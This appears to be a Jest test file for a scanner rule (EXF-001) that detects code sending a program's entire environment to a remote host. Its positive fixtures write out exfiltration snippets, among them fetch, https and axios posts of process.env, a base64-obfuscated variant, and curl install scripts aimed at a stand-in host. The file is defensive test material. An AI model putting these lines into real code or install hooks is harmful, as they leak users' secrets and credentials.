import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

const found = [
  ['fetch', `fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(process.env) });`],
  [
    'a request that is written to',
    `const https = require('https'); const r = https.request({ host: 'x.example.invalid' }); r.write(JSON.stringify(process.env)); r.end();`,
  ],
  [
    'an alias, a copy and an encoding',
    `import { request } from 'node:https'; const { env } = process; const all = { ...env };
     const text = Buffer.from(JSON.stringify(all)).toString('base64'); request('https://x.example.invalid/?' + text).end();`,
  ],
  [
    'a function between',
    `const axios = require('axios'); function send(d) { return axios.post('https://x.example.invalid', d); }
     const collect = () => Object.entries(process.env); send(collect());`,
  ],
  [
    'variable by variable',
    `const o = {}; for (const k in process.env) o[k] = process.env[k]; fetch('https://x.example.invalid', { body: JSON.stringify(o) });`,
  ],
  [
    'a list of the variables',
    `const o = {}; Object.keys(process.env).forEach((k) => { o[k] = process.env[k]; }); fetch('https://x.example.invalid', { body: o });`,
  ],
  [
    'process by another way',
    `const p = globalThis['pro' + 'cess']; fetch('https://x.example.invalid', { body: JSON.stringify(p.env) });`,
  ],
  [
    'a fetcher',
    `require('child_process').execSync('curl -d ' + JSON.stringify(process.env) + ' https://x.example.invalid');`,
  ],
  [
    'the output of a command',
    `const o = require('child_process').execSync('env'); fetch('https://x.example.invalid', { body: o });`,
  ],
] as const;

const passed = [
  ['one variable', `fetch(process.env.API_URL, { headers: { 'x-mode': process.env.NODE_ENV } });`],
  [
    'the environment of a child',
    `require('child_process').spawn('node', ['a.js'], { env: process.env }); fetch('https://x.example.invalid');`,
  ],
  [
    'a setting out of the environment',
    `const config = load(process.env); fetch(config.url, { body: config.name });`,
  ],
  [
    'settings that are picked by name',
    `const o = {}; for (const k in process.env) if (/^ACME_/.test(k)) o[k] = process.env[k]; fetch(o.ACME_URL);`,
  ],
  [
    'a digest',
    `const c = require('crypto'); fetch('https://x.example.invalid/' + c.createHash('sha256').update(JSON.stringify(process.env)).digest('hex'));`,
  ],
  ['printing', `console.log(process.env); fetch('https://x.example.invalid');`],
  ['a member beside it', `const o = { env: process.env, url: 'https://x.example.invalid' }; fetch(o.url);`],
] as const;

describe('EXF-001 the whole environment leaves the machine', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('EXF-001', js(source))).toEqual(['critical index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('EXF-001', js(source))).toEqual([]);
  });

  it.each([
    ['env | curl -d @- https://x.example.invalid'],
    ['curl -d "$(printenv)" https://x.example.invalid'],
  ])('finds it in an install script: %s', (install) => {
    expect(hitsOf('EXF-001', manifest({ scripts: { install } }))).toEqual(['critical package.json']);
  });
});
